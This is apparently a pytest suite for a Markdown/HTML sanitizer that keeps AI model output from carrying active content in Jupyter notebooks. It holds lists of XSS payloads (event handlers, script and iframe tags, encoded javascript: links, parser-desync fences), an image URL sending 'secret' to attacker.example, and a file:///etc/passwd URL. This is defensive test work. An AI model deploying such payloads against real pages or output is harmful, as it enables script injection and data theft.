"""sanitize.py: model output cannot carry active content, and harmless Markdown, code and math survive.

Sanitized Markdown is rendered by a real Markdown renderer (nbconvert's mistune renderer: what an HTML
export of the notebook uses, and one that passes raw HTML and javascript: links through) and the HTML is
checked element by element by a checker written independently of the sanitizer. JupyterLab's own renderer
is exercised by tests/browser/test_xss_browser.py.
"""

from __future__ import annotations

import random
import re
import urllib.parse
from html.parser import HTMLParser

import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from llmos_kernel.sanitize import fence, sanitize_html, sanitize_markdown, url_is_safe

JS = "pwned(1)"  # no "=": an unquoted attribute value with "=" is not a tag to CommonMark
PAYLOADS = [
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<script>{JS}</script>",
    f"<svg onload={JS}>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s></svg>",
    f'<iframe srcdoc="<script>{JS}</script>"></iframe>',
    f"<details open ontoggle={JS}>x</details>",
    f'<a href="javascript:{JS}">raw link</a>',
    f"<input autofocus onfocus={JS}>",
    f'<form><button formaction="javascript:{JS}">go</button></form>',
    f"<object data=javascript:{JS}></object>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<IMG SRC=x OnErRoR={JS}>",
    f"<img src=x\nonerror={JS}>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<b onmouseover={JS}>hover</b>",
    f"<sub style=x onclick={JS}>s</sub>",
    f"[link](javascript:{JS})",
    f"[link](JaVaScRiPt:{JS})",
    f"[link](jav&#x61;script:{JS})",
    f"[link](javascript&colon;{JS})",
    f"[link](java&#09;script:{JS})",
    f"[link](<javascript:{JS}>)",
    f"[link]( javascript:{JS} \"title\")",
    f"[link](\\javascript:{JS})",
    f"[link](java\\script:{JS})",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](vbscript:msgbox(1))",
    f"[ref]: javascript:{JS}\n\n[ref]",
    f"[ref]:\n  javascript:{JS}\n\n[ref]",
    f"<javascript:{JS}>",
    f"[x<https://a.example/](javascript:{JS})>",  # marked: a link; CommonMark: an autolink
    f"![img](javascript:{JS})",
    "![tracker](https://attacker.example/?q=secret)",
    f"![x](x){{onerror={JS}}}",
]
CONTEXTS = [
    "{}",
    "Text before {} text after.",
    "# Heading {}",
    "- item {}\n- next",
    "1. {}",
    "> {}",
    "| a | b |\n|---|---|\n| {} | c |",
    "**bold {}**",
    "[text {}](https://example.com)",
    "Para\n\n    {}\n\nafter",  # an indented code block
    "`code` {} `more`",
    "$x$ {} $y$",
    "<b>tag</b>\n{}",
]
# Structures that make renderers disagree about where code starts and ends.
STRUCTURES = [
    "```", "````", "~~~", "``` python", "```a`b", "   ```", "    ```", "\t```", "- ```", "1. ```", "> ```",
    "> - ```", "`", "``", "$", "$$", "\\", "[", "]", "](", "]:", "!", "<", "<b>", "</b>", "<br>", "-", "",
    "<https://example.com>", "\\href{javascript:" + JS + "}{x}", "<div>", "<pre>", "<!--", "-->",
]
# Documents where a line-by-line reading and a renderer disagree about what is code (each is active raw).
DESYNC_ATTACKS = [
    # the renderer opens a fence in the list item that a line reader does not see; "```" then closes it
    f"- ```\n  ~~~\n  ```\n  <img src=x onerror={JS}>\n  ~~~",
    f"> ```\n> ~~~\n> ```\n> <img src=x onerror={JS}>\n> ~~~",
    # indented 4 after a paragraph: no fence but the paragraph's continuation, so the "code" is prose
    f"para\n    ~~~\n    <img src=x onerror={JS}>\n    ~~~",
    # an HTML block swallows the fence that follows it
    f"<div>\n```\n<img src=x onerror={JS}>\n```",
    # a code span that spans a paragraph break is no code span
    f"`a\n\n<img src=x onerror={JS}>\n\nb`",
]
SAFE_TAGS = {
    "p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "a", "em", "strong",
    "hr", "br", "table", "thead", "tbody", "tr", "th", "td", "del", "span", "div",
    "b", "i", "u", "s", "ins", "mark", "small", "sub", "sup", "kbd", "var", "samp", "wbr",
}


# For HTML answers, which may use any harmless element: those that run, embed or fetch.
ACTIVE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "img", "picture",
    "video", "audio", "source", "style", "link", "meta", "base", "form", "input", "button", "textarea",
    "select", "template", "noscript", "animate", "set", "image", "use",
}


class ActiveContent(HTMLParser):
    """Everything in a piece of HTML that could run script or fetch a URL without a click."""

    def __init__(self, markdown: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.markdown = markdown
        self.problems: list[str] = []
        self.text = ""

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if (tag not in SAFE_TAGS) if self.markdown else (tag in ACTIVE_TAGS):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"src", "srcdoc", "style", "formaction", "action", "data"}:
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and not browser_allows(value or ""):
                self.problems.append(f"<{tag} href={value!r}>")

    handle_startendtag = handle_starttag


def browser_allows(href: str) -> bool:
    """The scheme a browser would use for this href (an attribute value with its references decoded)."""
    cleaned = re.sub(r"[\t\n\r]", "", href).strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
                                                  "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
    return urllib.parse.urlsplit(cleaned).scheme.lower() in {"", "http", "https", "mailto"}


def active(html_text: str, markdown: bool = True) -> list[str]:
    """What is active in rendered Markdown (any element beyond plain formatting) or in an HTML answer."""
    checker = ActiveContent(markdown)
    checker.feed(html_text)
    checker.close()
    return checker.problems


def text_of(html_text: str) -> str:
    checker = ActiveContent(True)
    checker.feed(html_text)
    checker.close()
    return checker.text


def rendered(markdown: str) -> str:
    return markdown2html_mistune(markdown)


def test_the_checker_sees_every_payload_when_nothing_is_sanitized():
    # The control: rendered raw, most payloads are active, so a clean result below means something. (The rest
    # aim at other parsers: comment and CDATA confusion, tab or backslash inside the scheme.)
    raw = [p for p in PAYLOADS if active(rendered(p))]
    assert len(raw) >= len(PAYLOADS) - 6, [p for p in PAYLOADS if p not in raw]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("context", CONTEXTS)
def test_no_payload_is_active_in_any_context(payload: str, context: str):
    source = sanitize_markdown(context.format(payload))
    assert active(rendered(source)) == [], source


@pytest.mark.parametrize("attack", DESYNC_ATTACKS)
def test_documents_that_confuse_a_line_reader_stay_inert(attack: str):
    assert active(rendered(attack))  # the control: raw, the renderer finds HTML where a line reader sees code
    source = sanitize_markdown(attack)
    assert active(rendered(source)) == [], source


def test_random_documents_never_render_active_content():
    rng = random.Random(13)
    pieces = STRUCTURES + PAYLOADS + ["text", "a < b", "`x`", "$a<b$", "\n", "\n", "\n\n", "  ", "    "]
    for _ in range(1500):
        doc = "".join(rng.choice(pieces) + rng.choice(["", " ", "\n", "\n\n"]) for _ in range(rng.randint(2, 14)))
        source = sanitize_markdown(doc)
        assert active(rendered(source)) == [], (doc, source)


def test_harmless_markdown_is_unchanged():
    answer = (
        "# Sorting\n\nUse `sorted()` when **order** matters:\n\n"
        "```python\nnumbers = sorted(values, key=abs)\n```\n\n"
        "- first\n- second, see [the docs](https://docs.python.org/3/) or <https://python.org>\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\nIt costs O(n log n); H<sub>2</sub>O<br>done."
    )
    assert sanitize_markdown(answer) == answer


def test_code_keeps_its_text_verbatim():
    block = "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```"
    assert sanitize_markdown(block) == block  # shown, not removed
    html_text = rendered(sanitize_markdown(block))
    assert "<script>alert(1)</script>\n<img src=x onerror=alert(1)>" in text_of(html_text)
    assert active(html_text) == []
    # Inline code with markup in it reads the same, as <code> with character references.
    inline = rendered(sanitize_markdown("Run `<b onclick=x>[a](b)</b>` now"))
    assert "<code>" in inline and text_of(inline) == "Run <b onclick=x>[a](b)</b> now\n"


def test_a_fence_that_the_code_could_close_is_lengthened():
    source = sanitize_markdown("````\n```\n<img src=x onerror=alert(1)>\n````")
    assert source.startswith("````\n```\n<img") and source.endswith("\n````")
    # "```~" closes a fence in marked (JupyterLab) though not in CommonMark: the fence outgrows it.
    assert sanitize_markdown("```\n```~\n<img src=x>\n```") == "````\n```~\n<img src=x>\n````"
    # Unclosed (still streaming): closed, so whatever follows (the status line) is not swallowed or exposed.
    assert sanitize_markdown("Look:\n```js\nlet a = 1 < 2") == "Look:\n\n```js\nlet a = 1 < 2\n```"
    assert sanitize_markdown("```{python} title='x'\ny\n```") == "```\ny\n```"  # no markup in the info


def test_fences_the_sanitizer_does_not_take_for_code_are_defused():
    assert sanitize_markdown("> ```\n> <b>\n> ```") == "> \\```\n> &lt;b>\n> \\```"
    assert sanitize_markdown("- ```\n  x") == "- \\```\n  x"


def test_comparisons_entities_and_autolinks():
    assert sanitize_markdown("if a < b and b > c") == "if a &lt; b and b > c"
    assert sanitize_markdown("Vec<T> and \\<tag>") == "Vec&lt;T> and &lt;tag>"
    assert sanitize_markdown("&lt;b&gt; stays text") == "&lt;b&gt; stays text"
    # a backtick does not pair across a paragraph break, so the tag there is prose
    assert sanitize_markdown("`one\n\ntwo <img>` x") == "`one\n\ntwo &lt;img>` x"
    html_text = rendered(sanitize_markdown("<https://example.com> <mailto:a@b.org> <a@b.org> <ftp://x>"))
    assert 'href="https://example.com"' in html_text and 'href="mailto:a@b.org"' in html_text
    assert "ftp://" in html_text and 'href="ftp' not in html_text


def test_tags_at_the_start_of_a_block_are_escaped():
    # "<b>" first on a line would open an HTML block, in which a later line is raw HTML to the renderer.
    assert sanitize_markdown("<b>x</b>\n```\n<img src=x onerror=alert(1)>\n```").startswith("&lt;b>x</b>")
    assert sanitize_markdown("- <br>") == "- &lt;br>"
    assert sanitize_markdown("x <br>") == "x <br>"


def test_links_with_other_schemes_show_as_text():
    source = "[x](javascript:alert(1)) [y](https://a.example) [z](#part) [m](mailto:a@b)"
    html_text = rendered(sanitize_markdown(source))
    assert html_text.count("<a ") == 3 and "javascript:alert(1)" in html_text
    assert 'href="https://a.example"' in html_text and 'href="#part"' in html_text


def test_images_become_links():
    html_text = rendered(sanitize_markdown("![chart](https://example.com/c.png)"))
    assert "<img" not in html_text and 'href="https://example.com/c.png"' in html_text


def test_math_keeps_working():
    assert sanitize_markdown("$a < b$ and $$x<y$$") == "$a \\lt  b$ and $$x\\lt y$$"
    assert sanitize_markdown("$$\n\\frac{1}{2}\n$$") == "$$\n\\frac{1}{2}\n$$"
    assert sanitize_markdown("costs $5 and `$HOME`") == "costs $5 and `$HOME`"
    assert sanitize_markdown("$\\href{javascript:alert(1)}{x}$") == "$\\\\href{javascript:alert(1)}{x}$"
    assert sanitize_markdown("$\\href{https://a.example}{x}$") == "$\\href{https://a.example}{x}$"
    assert sanitize_markdown("$\\let\\h\\href$") == "$\\let\\h\\\\href$"  # no argument to check: defused


@pytest.mark.parametrize(("url", "safe"), [
    ("https://a.example/x?y=1", True), ("HTTP://A", True), ("mailto:a@b", True), ("#x", True), ("/p", True),
    ("relative/path:x", True), ("javascript:x", False), (" javascript:x", False), ("java\tscript:x", False),
    ("jav&#x61;script:x", False), ("javascript&colon;x", False), ("&amp;#x6a;avascript:x", False),
    ("\\javascript:x", True), ("<javascript:x>", False), ("data:image/png;base64,AAAA", False),
    ("vbscript:x", False), ("file:///etc/passwd", False),
])
def test_url_schemes(url: str, safe: bool):
    assert url_is_safe(url) is safe


def test_html_answers_keep_only_the_allow_list():
    for payload in PAYLOADS:
        assert active(sanitize_html(payload), markdown=False) == [], payload
    kept = sanitize_html('<h2>T</h2><table><tr><td colspan="2">1</td></tr></table><a href="https://a.example">a</a>')
    assert "<h2>T</h2>" in kept and 'colspan="2"' in kept and 'href="https://a.example"' in kept
    assert 'rel="noopener noreferrer"' in kept
    assert "<img" not in sanitize_html('<img src="https://example.com/c.png" alt="c">')


def test_fence_cannot_be_closed_by_its_text():
    text = "a\n```\n<img src=x onerror=alert(1)>\n````"
    block = fence(text, "text")
    assert block.startswith("`````text\n") and block.endswith("\n`````")
    assert active(rendered(sanitize_markdown(block))) == []
    assert sanitize_markdown(block) == block
